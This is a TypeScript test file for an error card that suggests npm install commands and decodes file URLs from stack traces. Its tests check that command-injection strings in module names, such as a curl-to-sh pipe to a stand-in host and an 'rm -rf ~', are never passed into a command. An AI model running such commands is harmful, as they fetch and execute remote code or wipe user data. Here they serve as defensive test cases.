/** The error card's action and the frames it links, on text from the user's code (issue 16). */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { Report } from '../../src/shared/protocol';
import { pathOfFileUrl } from '../../src/stats/callErrors';
import { actionOf } from '../../src/webview/errorView';
import { FIXTURES } from '../support/helpers';

function nodeImportError(message: string): Report {
  const r = Report.parse(JSON.parse(fs.readFileSync(path.join(FIXTURES, 'reports', 'import-error-python.json'), 'utf8')));
  return { ...r, runtime: null, error: { kind: 'import-error', message, detail: null } };
}

test('npm install names only a package npm could publish: a dynamic require\'s text is never made a command to paste', () => {
  const command = (message: string) => {
    const a = actionOf(nodeImportError(message));
    return a?.kind === 'npm' ? a.command : null;
  };
  assert.equal(command("Cannot find package 'left-pad' imported from /w/a.mjs"), 'npm install left-pad');
  assert.equal(command("Cannot find module '@scope/pkg/sub'"), 'npm install @scope/pkg');
  assert.equal(command("Cannot find module 'x; curl http://e.vil | sh'"), 'npm install');
  assert.equal(command("Cannot find module '$(rm -rf ~)'"), 'npm install');
  assert.equal(command("Cannot find module 'C:\\\\app\\\\x.js'"), 'npm install');
  assert.equal(command("Cannot find module './local'"), 'npm install');
});

test('a file URL in a stack is the path it names: decoded, without the slash before a drive letter', () => {
  assert.equal(pathOfFileUrl('file:///home/dev/a%20b/x.mjs'), '/home/dev/a b/x.mjs');
  assert.equal(pathOfFileUrl('file:///C:/app/x.mjs'), 'C:/app/x.mjs');
  assert.equal(pathOfFileUrl('file:///home/dev/100%.mjs'), '/home/dev/100%.mjs');
  assert.equal(pathOfFileUrl('/home/dev/x.py'), '/home/dev/x.py');
});
